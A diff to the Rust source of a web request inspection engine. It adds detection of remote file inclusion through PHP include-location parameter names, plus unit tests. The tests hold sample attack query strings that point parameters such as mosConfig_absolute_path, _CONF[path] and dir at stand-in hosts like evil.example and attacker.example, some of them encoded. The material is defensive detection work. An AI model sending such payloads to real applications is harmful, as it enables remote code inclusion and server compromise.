@@ -2,8 +2,8 @@
 //! separators, `..` variants such as `..;`, `...`, `.%00.`) and judged by how far it
 //! climbs and what it reaches (system files, secrets, dot directories).
 
-use super::{Dict, Sink, Strongest};
-use crate::extract::Origin;
+use super::{Dict, Hit, Sink, Strongest};
+use crate::extract::{Origin, Value};
 use crate::settings::Class;
 
 /// Files and directories whose access is the goal of a traversal.
@@ -446,6 +446,107 @@ pub(crate) fn detect(text: &str, sink: &mut Sink) {
     best.report(Class::Traversal, text, sink);
 }
 
+/// Parameter names that hold a file-system location the application includes from:
+/// PHP applications `include($param . "/x.php")` with these (`mosConfig_absolute_path`,
+/// `_CONF[path]`), so a remote URL there is remote file inclusion. Exact names only for
+/// the short words; `image_path` or `file` carrying a URL are ordinary API fields.
+const INCLUDE_EXACT: &[&str] = &["path", "dir", "root", "basedir", "rootdir", "docroot"];
+const INCLUDE_SUFFIXES: &[&str] = &[
+    "absolute_path",
+    "abs_path",
+    "abspath",
+    "base_path",
+    "basepath",
+    "base_dir",
+    "basedir",
+    "root_path",
+    "rootpath",
+    "root_dir",
+    "include_path",
+    "includepath",
+    "include_dir",
+    "includedir",
+    "document_root",
+    "install_path",
+    "lib_path",
+    "libpath",
+];
+
+/// Whether a parameter name (the last `[key]` of a PHP-style name counts) names an
+/// include location; `basePath`, `base-path` and `base_path` read the same.
+fn include_location_name(name: &str) -> bool {
+    let key = name
+        .rsplit_once('[')
+        .map_or(name, |(_, k)| k.trim_end_matches(']'));
+    if key.len() > 64 {
+        return false;
+    }
+    let mut snake = String::with_capacity(key.len() + 4);
+    for (i, c) in key.chars().enumerate() {
+        if c.is_ascii_uppercase() && i > 0 && !snake.ends_with('_') {
+            snake.push('_');
+        }
+        snake.push(match c {
+            '-' | '.' => '_',
+            _ => c.to_ascii_lowercase(),
+        });
+    }
+    INCLUDE_EXACT.contains(&snake.as_str())
+        || INCLUDE_SUFFIXES.iter().any(|s| {
+            snake
+                .strip_suffix(s)
+                .is_some_and(|head| head.is_empty() || head.ends_with('_'))
+        })
+}
+
+/// A URL that makes an include read over the network: a scheme with a host, or a UNC
+/// path (`\\host\share`, SMB).
+fn remote_location(value: &str) -> bool {
+    let v = value.trim();
+    if v.starts_with("\\\\") || v.starts_with("//") && !v.starts_with("///") {
+        return v.len() > 3;
+    }
+    let Some((scheme, rest)) = v.split_once("://") else {
+        return false;
+    };
+    matches!(
+        scheme.to_ascii_lowercase().as_str(),
+        "http" | "https" | "ftp" | "ftps" | "smb" | "webdav" | "dav"
+    ) && rest
+        .chars()
+        .next()
+        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[')
+}
+
+/// Remote file inclusion: a remote URL in a parameter named like an include location.
+pub(crate) fn remote_include(values: &[Value], out: &mut Vec<(usize, Hit)>) {
+    for (i, v) in values.iter().enumerate().skip(1) {
+        if !matches!(v.origin, Origin::ParamValue | Origin::JsonValue) || v.header.is_some() {
+            continue;
+        }
+        let name = &values[i - 1];
+        if !matches!(name.origin, Origin::ParamName | Origin::JsonKey)
+            || name.location != v.location
+        {
+            continue;
+        }
+        let (Some(n), Some(text)) = (name.variants.first(), v.variants.last()) else {
+            continue;
+        };
+        if remote_location(text) && include_location_name(n) {
+            out.push((
+                i,
+                Hit {
+                    class: Class::Traversal,
+                    detector: "traversal.remote-include",
+                    score: 72,
+                    snippet: text.chars().take(200).collect(),
+                },
+            ));
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used)]
@@ -472,6 +573,54 @@ mod tests {
             "../../../../../../../../home/user/.ssh/id_rsa",
         ] {
             assert!(s(a) >= 60, "{a}: {}", s(a));
+        }
+    }
+
+    fn remote_include_score(query: &str) -> u32 {
+        let engine = crate::Engine::new(crate::Settings {
+            sensitivity: crate::Sensitivity::Paranoid,
+            ..crate::Settings::default()
+        });
+        let req = crate::Request {
+            method: "GET",
+            path: "/index.php",
+            query: Some(query),
+            headers: &[],
+            body: b"",
+        };
+        engine
+            .inspect(&req)
+            .findings
+            .iter()
+            .filter(|f| f.class == Class::Traversal)
+            .map(|f| f.score)
+            .max()
+            .unwrap_or(0)
+    }
+
+    #[test]
+    fn remote_include_by_parameter_name() {
+        for q in [
+            "mosConfig_absolute_path=https://evil.example/shell.txt",
+            "_CONF[path]=http://evil.example/x",
+            "cfg[include_path]=ftp://198.51.100.7/x.txt",
+            "basePath=HTTPS://evil.example/",
+            "module=news&root_dir=%68ttp://evil.example/a",
+            "path=%5C%5Cattacker.example%5Cshare%5Cx",
+            "dir=//evil.example/payload",
+        ] {
+            assert!(remote_include_score(q) >= 60, "{q}");
+        }
+        for q in [
+            "image_path=https://cdn.example.com/a.png",
+            "file=https://example.com/report.pdf",
+            "redirect_path=https://app.example.com/home",
+            "path=/docs/getting-started",
+            "basePath=/api/v2",
+            "root=main&dir=asc",
+            "pathology=https://example.org/a",
+        ] {
+            assert!(remote_include_score(q) < 60, "{q}");
         }
     }
 
